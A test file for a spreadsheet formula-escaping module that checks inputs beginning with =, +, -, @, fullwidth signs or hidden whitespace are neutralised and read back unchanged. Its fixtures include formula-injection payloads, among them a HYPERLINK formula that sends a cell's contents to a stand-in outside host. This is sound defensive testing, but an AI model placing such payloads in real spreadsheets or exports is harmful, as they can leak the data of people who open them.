import { escapeFormulas, unescapeFormulas } from './formulas.ts';

const FORMULAS = [
  '=HYPERLINK("http://a.example/?"&B2,\n"open")',
  '=1\r\n+2',
  '+8801712345678',
  '-5',
  '@SUM(A1)',
  '\t=1',
  '\tx',
  '\rx',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\u0000=1',
  '\n\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];

it.each(FORMULAS)('escaping makes %j the text of a cell, and reads it back as it was', (text) => {
  const cell = escapeFormulas(text);
  expect(cell).toMatch(/^'/);
  expect(unescapeFormulas(cell)).toBe(text);
});

it.each(['ঠিক;=1', 'ঠিক\n=1', 'ঠিক\t@SUM(A1)', 'ঠিক; ＝1', 'ঠিক\r\n+1'])(
  'escaping leaves no formula in %j for a program that ends a cell there',
  (text) => {
    const cell = escapeFormulas(text);
    for (const part of cell.split(/[;\t\r\n]/)) expect(part).toMatch(/^(?!\s*[=+\-@＝])/);
    expect(unescapeFormulas(cell)).toBe(text);
  },
);

it.each(['ঠিক', '০১৭১২-৩৪৫৬৭৮', 'a=b', "'উদ্ধৃতি'", 'প্রথম সারি\r\n\r\nদ্বিতীয় সারি', ''])(
  'escaping leaves %j as it is',
  (text) => expect(escapeFormulas(text)).toBe(text),
);

it('escaping reads back every text of such signs, also one with apostrophes of its own', () => {
  const signs = ["'", '=', ' ', '\t', '\n', ';', '＠', 'ক'];
  const texts = signs.flatMap((a) => signs.flatMap((b) => signs.map((c) => a + b + c)));
  expect(texts.filter((text) => unescapeFormulas(escapeFormulas(text)) !== text)).toEqual([]);
  const long = '\t\n '.repeat(20_000);
  expect(unescapeFormulas(escapeFormulas(long))).toBe(long);
});
